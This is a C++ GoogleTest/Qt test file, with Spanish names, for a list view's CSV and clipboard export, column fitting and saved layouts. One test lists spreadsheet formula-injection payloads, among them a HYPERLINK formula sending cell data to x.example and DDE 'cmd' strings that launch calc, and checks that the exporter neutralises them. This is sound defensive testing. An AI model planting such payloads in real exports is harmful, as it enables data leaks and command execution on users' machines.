#include "basedeprueba.h"
#include "respuestas.h"

#include "servicios/accioneslista.h"
#include "servicios/ajustelista.h"
#include "servicios/entornosql.h"
#include "servicios/funcionessql.h"

#include "controles/listview.h"
#include "runtime/settings.h"

#include <QFile>
#include <QFileDialog>
#include <QHeaderView>
#include <QMenu>
#include <QTemporaryDir>
#include <QTest>

#include <gtest/gtest.h>

namespace {

using Servicios::AccionesLista::textoCsv;
using Servicios::AccionesLista::textoTabulado;

// Three opportunities whose texts need quoting, shown sorted by amount text, descending.
void llenaOportunidades(Controles::ListView &lista)
{
    lista.replaceContents(
        {QStringLiteral("Folio"), QStringLiteral("Descripción"), QStringLiteral("Monto")},
        {{QString(), {QStringLiteral("F-1"), QStringLiteral("Uno; dos"), QStringLiteral("10.00")}},
         {QString(), {QStringLiteral("F-2"), QStringLiteral("Dice \"sí\""), QStringLiteral("30.00")}},
         {QString(), {QStringLiteral("F-3"), QStringLiteral("Línea\nnueva\tcon tab"), QStringLiteral("20.00")}}});
    lista.setSortKey(2);
    lista.setSortOrder(Qt::DescendingOrder);
    lista.setSorted(true);
}

// Rows in the order shown, columns as shown (moved, without hidden ones), texts quoted where
// the format needs it.
TEST(AccionesLista, theCsvAndTheCopyFollowTheShownOrderAndQuoteWhatNeedsIt)
{
    Controles::ListView lista;
    llenaOportunidades(lista);

    EXPECT_EQ(textoCsv(lista), QStringLiteral("Folio;Descripción;Monto\r\n"
                                              "F-2;\"Dice \"\"sí\"\"\";30.00\r\n"
                                              "F-3;\"Línea\nnueva\tcon tab\";20.00\r\n"
                                              "F-1;\"Uno; dos\";10.00\r\n"));
    EXPECT_EQ(textoTabulado(lista), QStringLiteral("Folio\tDescripción\tMonto\n"
                                                   "F-2\tDice \"sí\"\t30.00\n"
                                                   "F-3\tLínea nueva con tab\t20.00\n"
                                                   "F-1\tUno; dos\t10.00\n"));

    lista.header()->moveSection(2, 0); // Monto first
    lista.header()->hideSection(1);    // no Descripción
    EXPECT_EQ(textoCsv(lista), QStringLiteral("Monto;Folio\r\n30.00;F-2\r\n20.00;F-3\r\n10.00;F-1\r\n"));
}

// Cells a spreadsheet would run as formulas go out as text; numbers stay numbers.
TEST(AccionesLista, theCsvCarriesNoFormulas)
{
    const std::vector<std::pair<QString, QString>> casos = {
        {QStringLiteral("=HYPERLINK(\"http://x.example/?d=\"&B3;\"Ver\")"),
         QStringLiteral("\"'=HYPERLINK(\"\"http://x.example/?d=\"\"&B3;\"\"Ver\"\")\"")},
        {QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0"), QStringLiteral("'@SUM(1+1)*cmd|' /C calc'!A0")},
        {QStringLiteral("=cmd|' /C calc'!A0"), QStringLiteral("'=cmd|' /C calc'!A0")},
        {QStringLiteral("+cmd|' /C calc'!A0"), QStringLiteral("'+cmd|' /C calc'!A0")},
        {QStringLiteral("-2+3+cmd|' /C calc'!A0"), QStringLiteral("'-2+3+cmd|' /C calc'!A0")},
        {QStringLiteral("\t=1+1"), QStringLiteral("'\t=1+1")},
        {QStringLiteral("\r=1+1"), QStringLiteral("\"'\r=1+1\"")},
        {QStringLiteral("-1234.50"), QStringLiteral("-1234.50")},
        {QStringLiteral("-$1,234.50"), QStringLiteral("-$1,234.50")},
        {QStringLiteral("-$1,2+cmd|' /C calc'!A0"), QStringLiteral("'-$1,2+cmd|' /C calc'!A0")},
        {QStringLiteral("+7"), QStringLiteral("+7")},
        {QStringLiteral("-"), QStringLiteral("'-")},
        {QStringLiteral("a=b"), QStringLiteral("a=b")},
    };
    for (const auto &[valor, esperado] : casos) {
        SCOPED_TRACE(valor.toStdString());
        Controles::ListView lista;
        lista.replaceContents({QStringLiteral("=Folio")}, {{QString(), {valor}}});
        EXPECT_EQ(textoCsv(lista), QStringLiteral("'=Folio\r\n") + esperado + QStringLiteral("\r\n"));
    }
}

class MenuLista : public ::testing::Test
{
protected:
    MenuLista()
    {
        lista.setObjectName(QStringLiteral("lvOrdenes"));
        llenaOportunidades(lista);
        lista.show();
    }

    Pruebas::BaseDePrueba base;
    Servicios::EntornoSql entorno;
    Servicios::FuncionesSql funciones{entorno};
    Controles::ListView lista;
};

TEST_F(MenuLista, exportingToCsvSavesTheChosenFileInUtf8WithBom)
{
    QTemporaryDir carpeta;
    const QString ruta = carpeta.filePath(QStringLiteral("oportunidades.csv"));
    Pruebas::alAparecer(QStringLiteral("mnuAccionLista"), [](QWidget &ventana) {
        auto &menu = static_cast<QMenu &>(ventana);
        menu.setActiveAction(menu.findChild<QAction *>(QStringLiteral("accExportarCsv")));
        QTest::keyClick(&menu, Qt::Key_Return);
    });
    Pruebas::alAparecer(QStringLiteral("dlgExportarCsv"), [ruta](QWidget &ventana) {
        auto &dialogo = static_cast<QFileDialog &>(ventana);
        EXPECT_TRUE(dialogo.testOption(QFileDialog::DontUseNativeDialog));
        dialogo.selectFile(ruta);
        QMetaObject::invokeMethod(&dialogo, "accept");
    });

    funciones.AccionLista(lista);

    QFile archivo(ruta);
    ASSERT_TRUE(archivo.open(QIODevice::ReadOnly));
    EXPECT_EQ(archivo.readAll(), QByteArray("\xEF\xBB\xBF") + textoCsv(lista).toUtf8());
}

TEST(AjusteLista, fitsToTheFirstRowsWithoutMeasuringTheWholeList)
{
    // Given a long list whose widest text lies beyond the measured rows
    Controles::ListView lista;
    std::vector<Controles::ListRow> filas;
    const QString largo(40, QLatin1Char('n'));
    for (int fila = 0; fila < 5000; ++fila)
        filas.push_back({QString(),
                         {QStringLiteral("F-%1").arg(fila, 4, 10, QLatin1Char('0')),
                          fila == 3000 ? largo : QStringLiteral("Corta"), QStringLiteral("Fin")}});
    filas[10].texts[1] = QStringLiteral("Descripción medianamente larga");
    lista.replaceContents(
        {QStringLiteral("Folio"), QStringLiteral("Descripción de la oportunidad"), QStringLiteral("X")},
        std::move(filas));

    // When its columns are fitted
    Servicios::AjusteLista().Ajusta(lista);

    // Then each column holds its header and the sampled texts, and the far row is ignored
    const QFontMetrics medida(lista.font());
    const QFontMetrics encabezado(lista.header()->font());
    const int folio = lista.header()->sectionSize(0);
    const int descripcion = lista.header()->sectionSize(1);
    EXPECT_GE(folio, medida.horizontalAdvance(QStringLiteral("F-0000")));
    EXPECT_GE(folio, encabezado.horizontalAdvance(QStringLiteral("Folio")));
    EXPECT_GE(descripcion, encabezado.horizontalAdvance(QStringLiteral("Descripción de la oportunidad")));
    EXPECT_GE(descripcion, medida.horizontalAdvance(QStringLiteral("Descripción medianamente larga")));
    ASSERT_LT(medida.horizontalAdvance(largo) + 20, medida.averageCharWidth() * 60); // not cut by the cap
    EXPECT_LT(descripcion, medida.horizontalAdvance(largo));
    EXPECT_TRUE(lista.header()->stretchLastSection());
}

// In a window too narrow for every column at its content's width, the text columns give up
// width, never below a few characters; the folio, the figures and the dates keep theirs.
TEST(AjusteLista, fitsTheColumnsToTheListsWidthShrinkingTextOnes)
{
    Controles::ListView lista;
    lista.resize(520, 200);
    lista.show();
    const QString largo = QStringLiteral("Migración a la nube — Distribuidora La Paz, segunda etapa");
    lista.replaceContents({QStringLiteral("Folio"), QStringLiteral("Descripción"), QStringLiteral("Organización"),
                           QStringLiteral("Monto"), QStringLiteral("Cierre estimado")},
                          {{QString(),
                            {QStringLiteral("OP-000001"), largo, largo, QStringLiteral("$999,477,930.17"),
                             QStringLiteral("04/03/2026")}}});

    Servicios::AjusteLista().AjustaAlAncho(lista);

    const QHeaderView &encabezado = *lista.header();
    const QFontMetrics medida(lista.font());
    EXPECT_LE(encabezado.length(), lista.viewport()->width());
    for (const auto &[columna, texto] :
         {std::pair{0, QStringLiteral("OP-000001")}, std::pair{3, QStringLiteral("$999,477,930.17")}})
        EXPECT_GE(encabezado.sectionSize(columna), medida.horizontalAdvance(texto)) << columna;
    for (const int columna : {1, 2}) {
        EXPECT_LT(encabezado.sectionSize(columna), medida.horizontalAdvance(largo)) << columna;
        EXPECT_GE(encabezado.sectionSize(columna), medida.averageCharWidth() * 10) << columna;
    }
    EXPECT_EQ(lista.textElideMode(), Qt::ElideRight);
}

// A reload keeps the columns as the user left them; another view brings its own layout, or
// fits the columns when it has none; coming back brings the first one's again.
TEST_F(MenuLista, eachViewKeepsTheUsersLayoutOnReload)
{
    const QString consulta = QStringLiteral("SELECT Op_Folio AS \"Folio\", Op_Descripcion AS \"Descripción\","
                                            " Op_Monto AS \"Monto\" FROM Oportunidad");
    base.ejecuta(QStringLiteral("INSERT INTO Oportunidad (Op_Folio, Op_Descripcion, Op_Cve_Vendedor, Op_Monto)"
                                " VALUES ('F-1', 'Licencias', 'V1', 10), ('F-2', 'Servidores', 'V1', 20)"));
    const auto muestra = [&](const QString &vista) {
        lista.setLayoutKey(QStringLiteral("Pruebas/lvOrdenes/") + vista);
        EXPECT_TRUE(funciones.LlenaLista(consulta, lista, -1));
        return lista.header()->sectionSize(1);
    };
    const int ajustada = muestra(QStringLiteral("TODOS"));
    lista.header()->resizeSection(1, ajustada + 77);
    EXPECT_EQ(muestra(QStringLiteral("TODOS")), ajustada + 77); // a reload keeps what the user did
    lista.saveLayout();
    EXPECT_EQ(muestra(QStringLiteral("GANADAS")), ajustada);
    EXPECT_EQ(muestra(QStringLiteral("TODOS")), ajustada + 77);
    Runtime::removeSettings(QStringLiteral("Pruebas"), QStringLiteral("lvOrdenes"));
}

} // namespace
